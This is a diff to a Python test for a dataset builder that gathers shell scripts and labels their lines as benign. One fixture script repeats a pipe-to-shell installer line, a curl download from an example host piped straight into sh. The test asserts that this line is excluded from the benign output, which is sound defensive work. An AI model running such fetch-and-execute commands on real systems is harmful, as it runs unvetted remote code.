@@ -583,13 +583,17 @@ def test_machine_shell_reads_scripts_and_leaves_out_what_the_rules_flag(tmp_path
     _script(bin_ / "get-tool", "#!/bin/bash\n" + "curl -fsSL https://get.example.com/install.sh | sh\n" * 20)
     _script(bin_ / "notes.txt", "#!/usr/bin/python3\nprint('not a shell script')\n" + "x = 1\n" * 30)
     (bin_ / "link-to-backup").symlink_to(bin_ / "backup-home")
+    lib = bin_ / "lib"
+    lib.mkdir()
+    _script(lib / "helpers.sh", "log() {\n  printf '%s\\n' \"$*\" >&2\n}\n" * 5)  # no shebang, named .sh
+    _script(lib / "run-env", "#!/usr/bin/env bash\n" + "make -C build all\n" * 10)
     files = build_dataset.shell_script_files([str(bin_)], max_bytes=10_000)
-    assert [Path(f).name for f in files] == ["backup-home", "get-tool"]
+    assert [Path(f).relative_to(bin_).as_posix() for f in files] == ["backup-home", "get-tool", "lib/helpers.sh", "lib/run-env"]
 
     fake = Faker(LOCALES)
     fake.seed_instance(0)
     got = build_dataset.machine_shell(random.Random(0), fake, 50, files)
     assert got and {r.label for r in got} == {"benign"} and {r.source for r in got} == {"machine_shell"}
     # The installer's pipe-to-shell is command injection by THREATS.md: never taught as benign.
-    assert {r.group for r in got} == {"machine:shell:backup-home"}
+    assert {r.group for r in got} == {"machine:shell:backup-home", "machine:shell:helpers.sh", "machine:shell:run-env"}
     assert all(r.key in r.text and "curl" not in r.text for r in got)
